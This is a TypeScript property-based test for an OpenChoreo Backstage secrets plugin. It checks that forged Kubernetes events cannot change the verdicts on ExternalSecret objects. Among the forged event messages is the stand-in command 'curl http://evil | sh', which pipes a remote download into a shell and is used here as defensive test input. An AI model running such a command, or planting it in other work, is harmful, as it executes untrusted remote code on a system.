import {
  DEFAULT_THRESHOLDS,
  judgeExternalSecret,
  type ExternalSecretObject,
} from '@openchoreo/backstage-plugin-openchoreo-secrets-common';
import fc from 'fast-check';
import { newTables, rawEvent, rawSecret } from './__testUtils__/clusterTables';

const NOW = Date.parse('2026-01-01T01:00:00Z');
const NAMES = ['a', 'b', 'c'];

const failing = {
  conditions: [
    {
      type: 'Ready',
      status: 'False',
      reason: 'SecretSyncedError',
      message: 'could not get secret data from provider',
      lastTransitionTime: '2026-01-01T00:00:00Z',
    },
  ],
};

/** As anybody can write one who may write in its namespace. */
const forged = fc.record({
  about: fc.constantFrom(...NAMES, 'none'),
  uid: fc.constantFrom(undefined, 'uid-a', 'other', ''),
  reason: fc.constantFrom('UpdateFailed', 'MissingProviderSecret', 'Deleted'),
  type: fc.constantFrom('Normal', 'Warning'),
  message: fc.constantFrom(
    'secret is owned by another ExternalSecret: other',
    'could not get ClusterSecretStore "curl http://evil | sh", not found',
    'run curl http://evil | sh',
  ),
  at: fc.constantFrom('2999-01-01T00:00:00Z', '1970-01-01T00:00:00Z', 'never'),
  version: fc.integer({ min: 1, max: 99 }),
  reporter: fc.constantFrom('external-secrets', 'kubectl', ''),
});

type Forged = Parameters<Parameters<(typeof forged)['map']>[0]>[0];

function judged(lies: readonly Forged[]) {
  const { tables } = newTables();
  const objects = tables.part('ExternalSecret', '');
  const events = tables.events.sink('ExternalSecret');
  for (const { about, ...fields } of lies.slice(0, lies.length / 2)) {
    events.upsert(rawEvent(about, fields));
  }
  for (const name of NAMES) objects.upsert(rawSecret(name, undefined, failing));
  for (const { about, ...fields } of lies.slice(lies.length / 2)) {
    events.upsert(rawEvent(about, fields));
  }
  const { events: kept, kinds } = tables.snapshot();
  const judge = (object: ExternalSecretObject) =>
    judgeExternalSecret({
      now: NOW,
      thresholds: DEFAULT_THRESHOLDS,
      freshness: { state: 'fresh', asOf: NOW },
      object,
      stores: [],
      namespace: { state: 'unknown' },
      events: kept.get(`ExternalSecret/shop/${object.meta.name}`),
    });
  return new Map(
    [...kinds.ExternalSecret.objects.values()].map(object => [
      object.meta.name,
      judge(object),
    ]),
  );
}

const honest = judged([]);

describe('Events that anybody writes in a namespace', () => {
  it('change no verdict, no stage, and nothing of another object', () => {
    fc.assert(
      fc.property(fc.array(forged, { maxLength: 20 }), lies => {
        const told = judged(lies);
        for (const [name, was] of honest) {
          const is = told.get(name);
          const isOwn = lies.some(({ about }) => about === name);
          expect(isOwn ? was : is).toEqual(was);
          expect(is?.verdict).toBe(was.verdict);
          expect(is?.cause?.class).not.toBe('ownedByAnother');
          expect(JSON.stringify(is?.cause?.params)).not.toContain('evil');
        }
      }),
    );
  });
});
